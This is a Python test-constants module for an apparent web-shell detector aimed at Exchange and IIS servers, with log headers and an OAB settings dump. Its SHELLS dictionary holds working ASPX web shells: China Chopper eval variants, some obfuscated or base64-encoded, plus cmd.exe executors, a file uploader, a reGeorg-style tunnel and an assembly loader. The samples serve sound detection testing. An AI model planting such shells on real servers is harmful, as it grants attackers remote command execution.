"""Shared constants and samples for tests/webshell (a uniquely named module)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

DATA = Path(__file__).parent.parent / "data" / "webshell"
EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
OWA_AUTH = f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth"
ASPNET_CLIENT = "C/inetpub/wwwroot/aspnet_client"

IIS_HEADER = (
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-01 00:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
    "s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
    "sc-win32-status time-taken\r\n"
)
HTTPPROXY_HEADER = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n"
    "#Log-type: HttpProxy Logs\r\n#Date: 2021-03-01T00:00:00.000Z\r\n"
    "#Fields: DateTime,RequestId,ClientIpAddress,UrlStem,HttpStatus,Method,UserAgent,"
    "AnchorMailbox\r\n"
)

# Web-shell samples, written for these tests from the public descriptions of each family.
CHOPPER = ('<script language="JScript" runat="server">function Page_Load(){'
           'eval(Request["{p}"],"unsafe");}</script>')
SHELLS: dict[str, str] = {
    "chopper": CHOPPER.replace("{p}", "k7w2"),
    "chopper_item": '<%@ Page Language="Jscript"%><%eval(Request.Item["x9"],"unsafe");%>',
    "chopper_form": ('<script runat=server language=JScript>function Page_Load(){ eval ( '
                     'Request.Form[\'q\'] , \'unsafe\' ) ;}</script>'),
    "chopper_b64": ('<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString('
                    'System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>'),
    "chopper_obfuscated": ('<script language="JScript" runat="server">var _0x1f2e=["\\x75\\x6e'
                           '\\x73\\x61\\x66\\x65","orange"];function Page_Load(){var m=Request;'
                           'eval(m[_0x1f2e[1]],_0x1f2e[0]);}</script>'),
    "chopper_split": ('<script language="JScript" runat="server">function Page_Load(){var u="un"'
                      '+"safe";eval(Request.Params["w"],u);}</script>'),
    "simpleseesharp": ('<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0];'
                       'f.SaveAs(Path.Combine(Server.MapPath("."), Request["n"])); %>'),
    "sportsball": """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Form["k"] != null) { HttpCookie c = new HttpCookie("sess", Request.Form["k"]); Response.Cookies.Add(c); }
  System.Diagnostics.Process p = new System.Diagnostics.Process();
  p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.Start();
  p.StandardInput.WriteLine(Request.Form["c"]);
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="up" /></form>""",
    "regeorg": """<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string cmd = Request.Headers.Get("X-CMD");
  if (cmd == "CONNECT") { Socket sk = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    sk.Connect(Request.Headers.Get("X-TARGET"), int.Parse(Request.Headers.Get("X-PORT"))); Session["socket"] = sk;
    Response.AddHeader("X-STATUS", "OK"); }
  else if (cmd == "DISCONNECT") { Session.Abandon(); }
  else if (cmd == "FORWARD") { ((Socket)Session["socket"]).Send(Request.BinaryRead(Request.ContentLength)); }
  else if (cmd == "READ") { Response.AddHeader("X-STATUS", "OK"); }
}
</script>""",
    "unknown_cmd": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["t"]);
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  var proc = System.Diagnostics.Process.Start(psi);
  Response.Write(proc.StandardOutput.ReadToEnd());
}
</script>""",
    "unknown_loader": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  byte[] raw = Convert.FromBase64String(Request.Form["blob"]);
  var asm = System.Reflection.Assembly.Load(raw);
  asm.CreateInstance("Payload").Equals(Context);
}
</script>""",
}


def oab_dump(script: str) -> str:
    """An OAB virtual directory's settings as a reset writes them (Format-List layout)."""
    props = [
        ("RunspaceId", "4a6b0f5e-0000-4000-8000-000000000001"), ("PollInterval", "480"),
        ("OfflineAddressBooks", ""), ("RequireSSL", "False"),
        ("MetabasePath", "IIS://ex01.example.test/W3SVC/1/ROOT/OAB"),
        ("ExtendedProtectionTokenChecking", "None"), ("InternalUrl", "https://ex01/OAB"),
        ("InternalAuthenticationMethods", "{WindowsIntegrated}"), ("ExternalUrl", script),
        ("Name", "OAB (Default Web Site)"),
    ]
    return "\r\n".join(f"{k.ljust(32)}: {v}" for k, v in props) + "\r\n"


Builder = Callable[..., Path]
